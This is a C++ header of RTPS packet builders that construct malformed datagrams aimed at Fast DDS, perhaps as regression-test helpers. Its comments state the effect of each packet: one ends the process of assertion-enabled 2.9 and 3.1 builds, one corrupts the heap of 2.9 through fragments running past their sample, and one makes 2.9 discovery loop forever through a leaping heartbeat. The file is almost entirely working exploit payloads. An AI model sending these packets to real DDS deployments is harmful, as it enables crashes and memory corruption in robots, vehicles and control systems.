#pragma once

#include <algorithm>
#include <array>
#include <cstddef>
#include <cstdint>
#include <string>
#include <string_view>
#include <vector>

namespace laneloom::dds {

using Packet = std::vector<std::uint8_t>;
using Prefix = std::array<std::uint8_t, 12>;  ///< names a participant

/// Writes numbers as RTPS has them, the lowest byte first.
class RtpsWriter {
 public:
  RtpsWriter& u8(std::uint8_t value) { return number(value, 1); }
  RtpsWriter& u16(std::uint16_t value) { return number(value, 2); }
  RtpsWriter& u32(std::uint32_t value) { return number(value, 4); }
  RtpsWriter& sequence(std::int64_t value) {
    const auto bits = static_cast<std::uint64_t>(value);
    return u32(static_cast<std::uint32_t>(bits >> 32U)).u32(static_cast<std::uint32_t>(bits));
  }
  /// An entity, as in 0x000003c2.
  RtpsWriter& entity(std::uint32_t id) {
    for (int shift = 24; shift >= 0; shift -= 8) u8(static_cast<std::uint8_t>(id >> unsigned(shift)));
    return *this;
  }
  RtpsWriter& bytes(const Packet& more) {
    bytes_.insert(bytes_.end(), more.begin(), more.end());
    return *this;
  }
  RtpsWriter& zeros(std::size_t count) { return bytes(Packet(count)); }
  RtpsWriter& text(std::string_view text) { return bytes({text.begin(), text.end()}); }
  Packet take() const { return bytes_; }

 private:
  RtpsWriter& number(std::uint64_t value, unsigned count) {
    for (unsigned i = 0; i < count; ++i) bytes_.push_back(static_cast<std::uint8_t>(value >> 8 * i));
    return *this;
  }

  Packet bytes_;
};

inline Packet submessage(std::uint8_t kind, std::uint8_t flags, const Packet& body) {
  return RtpsWriter().u8(kind).u8(flags | 1U).u16(static_cast<std::uint16_t>(body.size())).bytes(body).take();
}

inline Packet datagram(const Prefix& prefix, const std::vector<Packet>& submessages) {
  RtpsWriter writer;
  writer.text("RTPS").u8(2).u8(3).u8(1).u8(0x0f).bytes({prefix.begin(), prefix.end()});
  for (const auto& submessage : submessages) writer.bytes(submessage);
  return writer.take();
}

inline Packet heartbeat(std::uint32_t reader, std::uint32_t writer, std::int64_t first, std::int64_t last) {
  return submessage(
      0x07, 0,
      RtpsWriter().entity(reader).entity(writer).sequence(first).sequence(last).u32(1'000'000).take());
}

/// Ends the process of a Fast DDS 2.9 or 3.1 that is compiled with its assertions.
inline Packet vendor_submessage_in_the_midst() {
  return datagram({}, {submessage(0x80, 0, Packet(56)), Packet(4)});
}

/// Corrupts the heap of a Fast DDS 2.9.
inline Packet fragments_beyond_their_sample() {
  const auto fragments = RtpsWriter()
                             .u16(0)
                             .u16(16)
                             .entity(0)
                             .entity(0x000100c2)
                             .sequence(2)
                             .u32(262257)
                             .u16(0)
                             .u16(768)
                             .u32(1)
                             .zeros(24);
  return datagram({1}, {submessage(0x16, 2, fragments.take())});
}

/// Makes the discovery of a Fast DDS 2.9 that knows this participant loop for ever.
inline Packet heartbeat_that_leaps(const Prefix& prefix, std::int64_t to) {
  return datagram(prefix, {heartbeat(0x000003c7, 0x000003c2, to, to)});
}

/// The payload of an announcement of a reader with this number of representations of data.
inline Packet reader_with_representations(std::uint32_t count) {
  return RtpsWriter().u8(0).u8(3).u16(0).u16(0x73).u16(8).u32(count).u32(0).u16(1).u16(0).take();
}

/// An announcement, as a whole.
inline Packet announced_whole(const Prefix& prefix, std::int64_t sequence, const Packet& payload) {
  const auto fixed = RtpsWriter().u16(0).u16(16).entity(0x000004c7).entity(0x000004c2).sequence(sequence);
  return datagram(prefix, {submessage(0x15, 4, RtpsWriter(fixed).bytes(payload).take())});
}

/// The n-th fragment of an announcement, of 8 bytes; n counts from 1.
inline Packet announced_fragment(const Prefix& prefix, std::int64_t sequence, const Packet& payload,
                                 std::uint32_t n) {
  constexpr std::uint32_t kBytes = 8;
  const auto begin = payload.begin() + std::ptrdiff_t{kBytes} * (n - 1);
  const Packet part(begin, payload.end() - begin > kBytes ? begin + kBytes : payload.end());
  const auto fixed = RtpsWriter()
                         .u16(0)
                         .u16(28)
                         .entity(0x000004c7)
                         .entity(0x000004c2)
                         .sequence(sequence)
                         .u32(n)
                         .u16(1)
                         .u16(kBytes)
                         .u32(static_cast<std::uint32_t>(payload.size()));
  return datagram(prefix, {submessage(0x16, 0, RtpsWriter(fixed).bytes(part).take())});
}

}  // namespace laneloom::dds
